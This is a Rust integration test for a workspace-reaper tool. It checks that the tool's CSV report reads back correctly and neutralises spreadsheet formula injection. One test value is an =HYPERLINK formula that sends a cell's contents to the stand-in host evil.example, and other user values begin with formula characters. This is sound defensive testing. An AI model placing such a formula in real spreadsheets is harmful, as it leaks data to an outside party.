//! The manager's CSV, read back from the local bucket folder and checked cell by cell.
#![allow(clippy::unwrap_used)]

mod common;

use std::sync::Arc;

use common::*;
use workspace_reaper::report::HEADER;
use workspace_reaper::store::LocalStore;
use workspace_reaper::{FakeWorkspaces, WsState};

#[test]
fn report_reads_back_cell_by_cell_with_injection_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let evil = r#"=HYPERLINK("http://evil.example/x?"&A1,"click")"#;
    let mut unknown = ws("ws-unknown01", "@sum", WsState::Available, Some(days_ago(40)));
    unknown.ws.user = "+frank".into();
    let fleet = vec![
        ws("ws-evil00001", evil, WsState::Stopped, Some(days_ago(20))),
        ws("ws-risk00001", "-bob", WsState::Available, Some(days_ago(10))),
        ws("ws-maint0001", "carol", WsState::parse("MAINTENANCE"), Some(days_ago(30))),
        ws("ws-never0001", "dave", WsState::Available, None),
        unknown,
    ];
    let mut api = FakeWorkspaces::new(fleet);
    api.status_missing.insert("ws-unknown01".into());
    let store = Arc::new(LocalStore::new(dir.path()));
    let rt = tokio::runtime::Builder::new_current_thread().enable_time().build().unwrap();
    rt.block_on(seed_warned(store.as_ref(), &["ws-evil00001"]));
    let r = rig(api, store, live_policy());
    let s = rt.block_on(r.reaper.run(now())).unwrap();
    assert_eq!((s.terminated, s.at_risk, s.kept, s.status_unknown), (1, 1, 3, 1));

    let dated = std::fs::read(dir.path().join("reports/2025-03-10/workspaces.csv")).unwrap();
    let latest = std::fs::read(dir.path().join("reports/latest.csv")).unwrap();
    assert_eq!(dated, latest, "latest.csv is the same report");

    let mut rd = csv::Reader::from_reader(dated.as_slice());
    assert_eq!(rd.headers().unwrap().iter().collect::<Vec<_>>(), HEADER.to_vec());
    let rows: Vec<Vec<String>> =
        rd.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
    let evil_cell = format!("'{evil}");
    let expected: Vec<Vec<String>> = [
        // Sorted by decision (terminated first), then id.
        [
            "ws-evil00001",
            evil_cell.as_str(),
            DIR,
            "STOPPED",
            "2025-02-18T06:00:00Z",
            "20",
            "terminated",
            "inactive-over-limit",
            "",
        ],
        [
            "ws-risk00001",
            "'-bob",
            DIR,
            "AVAILABLE",
            "2025-02-28T06:00:00Z",
            "10",
            "at-risk next run",
            "passes-limit-before-next-run",
            "",
        ],
        [
            "ws-maint0001",
            "carol",
            DIR,
            "MAINTENANCE",
            "2025-02-08T06:00:00Z",
            "30",
            "keep",
            "protected-state",
            "",
        ],
        [
            "ws-never0001",
            "dave",
            DIR,
            "AVAILABLE",
            "never",
            "0",
            "keep",
            "never-connected-first-sighting",
            "",
        ],
        [
            "ws-unknown01",
            "'+frank",
            DIR,
            "AVAILABLE",
            "unknown",
            "",
            "keep",
            "status-unavailable",
            "status lookup: not in the status answer",
        ],
    ]
    .iter()
    .map(|r| r.iter().map(|c| c.to_string()).collect())
    .collect();
    assert_eq!(rows.len(), expected.len());
    for (got, want) in rows.iter().zip(&expected) {
        for (col, (g, w)) in HEADER.iter().zip(got.iter().zip(want)) {
            assert_eq!(g, w, "row {} column {col:?}", want[0]);
        }
    }
    // No cell of the file starts a formula.
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
    // The history snapshot records first sightings for the next run.
    let hist: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("history/2025-03-10.json")).unwrap()).unwrap();
    assert_eq!(hist["workspaces"].as_array().unwrap().len(), 5);
}
